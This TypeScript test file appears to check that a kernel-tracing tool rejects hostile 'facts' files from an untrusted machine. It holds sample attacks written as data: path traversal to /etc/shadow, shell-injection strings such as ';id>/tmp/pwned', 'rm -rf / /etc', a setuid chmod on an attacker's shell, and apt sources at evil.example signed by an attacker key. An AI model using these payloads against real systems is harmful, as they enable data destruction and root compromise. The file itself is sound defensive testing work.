/** A facts file comes from a machine that may be in an attacker's hands. */
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { declareFacts } from '../../src/detect/declared-facts.ts';
import { identifyTarget } from '../../src/detect/target.ts';
import { loadMirrors } from '../../src/mirrors/load.ts';
import type { HostFacts } from '../../src/types.ts';
import { GpgHome } from '../helpers/gpg.ts';
import { atEnd, type Attack, held, once, type Outcome, refusalOf, succeeded, type Tree } from './attack.ts';

const SCHEMA = 'src/detect/facts-schema.ts';
const RELEASE = {
  file: SCHEMA,
  text: ".regex(/^[A-Za-z0-9][A-Za-z0-9._+~:@%=^-]{0,63}$/, 'not a kernel release')",
  replacement: '',
};
const BUILD_ID = { file: SCHEMA, text: '.regex(/^[0-9a-f]{16,64}$/) as', replacement: 'as' };

const honest = once(() =>
  JSON.stringify(declareFacts({ distro: 'debian:12', release: '6.1.0-1-amd64', arch: 'x86_64', unameV: null })),
);

type Kernel = Readonly<Record<string, unknown>>;

const LIES: readonly (readonly [string, Kernel, Attack['guard']])[] = [
  ['a kernel release that leads out of /lib/modules', { release: '../../../etc' }, [RELEASE]],
  ['a kernel release that is an option of the program that gets it', { release: '--root=/' }, [RELEASE]],
  ['a kernel release with a second line', { release: '6.1.0\nwarning: run this' }, [RELEASE]],
  ['a kernel release with words of a shell', { release: '6.1.0;reboot' }, [RELEASE]],
  ['a build-id that is a path', { release: '6.1.0-1-amd64', buildId: '../../../../etc/shadow' }, [BUILD_ID]],
];

/** An archive of the attacker's and the key that signs it, as a source file names both. */
const source = once(() => {
  const gpg = new GpgHome();
  atEnd(() => gpg.close());
  const key = gpg.makeKey('attacker', 'rsa2048');
  const block = readFileSync(key.armored, 'utf8')
    .trim()
    .split('\n')
    .map((line) => ` ${line === '' ? '.' : line}\n`)
    .join('');
  const inside = `Types: deb\nURIs: http://evil.example/debian\nSuites: bookworm\nComponents: main\nSigned-By:\n${block}`;
  return { keyring: key.keyring, inside };
});

/** Whether what is installed into a root of this machine would be believed by the attacker's key. */
async function rehearsed(tree: Tree, root: string | null, repositories: HostFacts['repositories']): Promise<Outcome> {
  const own = await tree.load<typeof import('../../src/mirrors/own-sources.ts')>('src/mirrors/own-sources.ts');
  const { asPattern } =
    await tree.load<typeof import('../../src/pipeline/open-target.ts')>('src/pipeline/open-target.ts');
  const { requireKeys } =
    await tree.load<typeof import('../../src/trust/required-keys.ts')>('src/trust/required-keys.ts');
  const { createRootHost } = await tree.load<typeof import('../../src/host/root.ts')>('src/host/root.ts');
  const facts = { ...(JSON.parse(honest()) as HostFacts), repositories };
  const open = { host: root === null ? null : createRootHost(root), facts, target: identifyTarget(facts, {}) };
  const found = await own.collectOwnSources(asPattern(open), await pinned(), '/nonexistent');
  const evil = found.repositories.find(({ baseUrls }) => baseUrls[0]?.includes('evil'));
  if (evil === undefined) return held(`left out: ${found.unbelieved.join(' ')}`);
  return refusalOf(requireKeys(evil), () => 'packages of the attacker run as root here');
}

const pinned = once(() => loadMirrors({ packageRoot: process.cwd(), files: [], configHome: null }));

/** What os-release says becomes the name of a root and of a lock. */
const CLIMBING: Attack = {
  name: 'a VERSION_ID that leads out of the cache',
  guard: [
    {
      file: SCHEMA,
      text: ".regex(/^(?!.*\\.\\.)[^/\\u0000-\\u001f\\u007f]{0,64}$/u, 'not a plain word')",
      replacement: '',
    },
  ],
  attempt: async (tree) => {
    const { readFactsFile } = await tree.load<typeof import('../../src/detect/facts.ts')>('src/detect/facts.ts');
    const facts = JSON.parse(honest()) as HostFacts;
    const path = join(tree.scratch(), 'facts.json');
    writeFileSync(path, JSON.stringify({ ...facts, os: { ...facts.os, versionId: '../../../../var/tmp/victim' } }));
    return refusalOf(readFactsFile(path), (read) => `a root is made at roots/debian-${read.os.versionId}`);
  },
};

/** What is printed of a machine may be handed on line by line. */
const LINES: Attack = {
  name: 'a version in a facts file puts a package of its own into the list that names prints',
  guard: [
    {
      file: SCHEMA,
      text: "const name = z.string().min(1).max(1024).regex(ONE_LINE, 'more than one line');",
      replacement: 'const name = z.string().min(1).max(1024);',
    },
  ],
  attempt: async (tree) => {
    const facts = JSON.parse(honest()) as HostFacts;
    const version = '1-1\nheaders  evil  1-1  all';
    const image = { name: 'linux-image-6.1.0-1-amd64', version, arch: 'amd64' };
    const path = join(tree.scratch(), 'facts.json');
    const kernelPackages = [{ ...image, vendor: null, buildTime: null, buildHost: null }];
    writeFileSync(path, JSON.stringify({ ...facts, kernelPackages }));
    const { stdout, code } = await tree.cli(['names', '--facts', path], { HOME: tree.scratch() });
    return stdout.includes('\nheaders  evil') ? succeeded('a line of the attacker') : held(`exit code ${code}`);
  },
};

const KEYS: readonly Attack[] = [
  {
    name: 'a key inside a source of a facts file, for a root that is made and run here',
    guard: [
      { file: 'src/mirrors/apt-source.ts', text: '!context.ownKeys && bringsKeys(source)', replacement: 'false' },
    ],
    attempt: (tree) => rehearsed(tree, null, [{ path: '/etc/apt/sources.list.d/x.sources', text: source().inside }]),
  },
  {
    name: 'a key that only the machine has after which a root is made and run here',
    guard: [
      {
        file: 'src/pipeline/open-target.ts',
        text: "open.keys ?? (open.host?.kind === 'local' ? 'target' : 'here')",
        replacement: "'target'",
      },
    ],
    attempt: (tree) => {
      const root = tree.scratch();
      const path = '/etc/apt/keyrings/tapprep-attack.gpg';
      mkdirSync(join(root, 'etc/apt/keyrings'), { recursive: true });
      mkdirSync(join(root, 'var/lib/dpkg'), { recursive: true });
      writeFileSync(join(root, 'var/lib/dpkg/status'), '');
      copyFileSync(source().keyring, join(root, path));
      const text = `deb [signed-by=${path}] http://evil.example/debian bookworm main\n`;
      return rehearsed(tree, root, [{ path: '/etc/apt/sources.list', text }]);
    },
  },
];

const LIED: readonly Attack[] = LIES.map(([name, kernel, guard]) => ({
  name,
  guard,
  attempt: async (tree) => {
    const { readFactsFile } = await tree.load<typeof import('../../src/detect/facts.ts')>('src/detect/facts.ts');
    const facts = JSON.parse(honest()) as { readonly kernel: Kernel };
    const path = join(tree.scratch(), 'facts.json');
    writeFileSync(path, JSON.stringify({ ...facts, kernel: { ...facts.kernel, ...kernel } }));
    return refusalOf(
      readFactsFile(path),
      (read) => `${read.kernel.release} ${read.kernel.buildId} is taken for the target's`,
    );
  },
}));

const PATHS = {
  own: { file: SCHEMA, text: '.regex(OWN_PATH,', replacement: '.regex(/^/,' },
  plain: { file: SCHEMA, text: '.regex(/^[A-Za-z0-9._+~:@%,=/^-]{1,1024}$/,', replacement: '.regex(/^/,' },
  cache: { file: SCHEMA, text: '.refine(isStapCache,', replacement: '.refine(() => true,' },
};
const SYSTEMTAP = {
  path: '/usr/bin/stap',
  version: '5.0',
  testedKernels: null,
  package: null,
  staprunPath: '/usr/bin/staprun',
  staprunVersion: null,
  staprunMode: '4110',
  tapsetCount: null,
  examplesPath: null,
  cachePaths: [],
  temporaryPaths: [],
  moduleDirectory: false,
};
const EVIL_TREE = '/usr/src/x;id>/tmp/pwned;';
const TREE = {
  link: EVIL_TREE,
  linksTo: null,
  exists: true,
  hasConfig: false,
  hasModuleSymvers: false,
  hasMakefile: true,
};
const UNKNOWN_TREE = { release: null, utsVersion: null, compileHost: null, ownerPackage: null };
const CUSTOM = '6.1.0-own-1';

/** What a facts file says, and what no command may hold that doctor prints. */
const PASTED: readonly (readonly [string, (facts: HostFacts) => unknown, string, Attack['guard']])[] = [
  [
    'words of a shell in the name of a tree',
    (facts) => ({ ...facts, own: { buildTree: EVIL_TREE, vmlinux: null }, buildTree: { ...TREE, ...UNKNOWN_TREE } }),
    'make -C /usr/src/x;id',
    [
      PATHS.own,
      PATHS.plain,
      {
        file: 'src/diagnose/faults/kernel-tree-not-built.ts',
        text: 'shellLine`make -C ${tree}`',
        replacement: '`make -C ${tree}`',
      },
      {
        file: 'src/diagnose/faults/kernel-tree-not-built.ts',
        text: "place.reach.via === 'facts' ? null : ",
        replacement: "place.reach.via === 'root' ? null : ",
      },
    ],
  ],
  [
    '/etc in the place of the cache of stap',
    (facts) => ({ ...facts, systemtap: { ...SYSTEMTAP, cachePaths: ['/', '/etc'] } }),
    'rm -rf / /etc',
    [
      PATHS.cache,
      {
        file: 'src/diagnose/readiness.ts',
        text: '(facts.systemtap?.cachePaths ?? []).filter(isStapCache)',
        replacement: 'facts.systemtap?.cachePaths ?? []',
      },
    ],
  ],
  [
    'a shell of somebody, which root is to make set-user-ID root',
    (facts) => ({
      ...facts,
      user: { uid: 1000, name: 'mallory', groups: [] },
      systemtap: { ...SYSTEMTAP, staprunPath: '/home/mallory/shell', staprunMode: '755' },
    }),
    'chmod 4110 /home/mallory/shell',
    [
      {
        file: 'src/diagnose/checks/systemtap.ts',
        text: '...(isPlaceOfStaprun(staprunPath)',
        replacement: '...(staprunPath !== ""',
      },
    ],
  ],
  [
    'the address of a package, which apt-get installs as root without asking who signed it',
    (facts) => ({
      ...facts,
      kernel: { ...facts.kernel, release: CUSTOM },
      kernelPackages: [
        {
          name: `http://evil.example/linux-image-${CUSTOM}`,
          version: '1',
          arch: 'all',
          vendor: null,
          buildTime: null,
          buildHost: null,
        },
      ],
    }),
    'http://evil.example',
    [{ file: 'src/diagnose/beside-image.ts', text: 'if (!NAME.test(name)) return false;', replacement: '' }],
  ],
];

const COMMANDS: readonly Attack[] = PASTED.map(([what, lie, bad, guard]) => ({
  name: `a facts file puts into a command of doctor ${what}`,
  guard,
  attempt: async (tree) => {
    const facts = JSON.parse(honest()) as HostFacts;
    const machine: HostFacts = { ...facts, source: 'host', packageManager: 'dpkg', frontends: ['apt-get'] };
    const path = join(tree.scratch(), 'facts.json');
    writeFileSync(path, JSON.stringify(lie(machine)));
    const { stdout, stderr } = await tree.cli(['doctor', '--facts', path], { HOME: tree.scratch() });
    const line = stdout.split('\n').find((each) => each.includes(bad));
    if (line !== undefined) return succeeded(line.trim());
    return held(stderr.includes('BAD_FACTS') ? 'BAD_FACTS' : 'no command has it');
  },
}));

export const attacks: readonly Attack[] = [...LIED, CLIMBING, LINES, ...KEYS, ...COMMANDS];
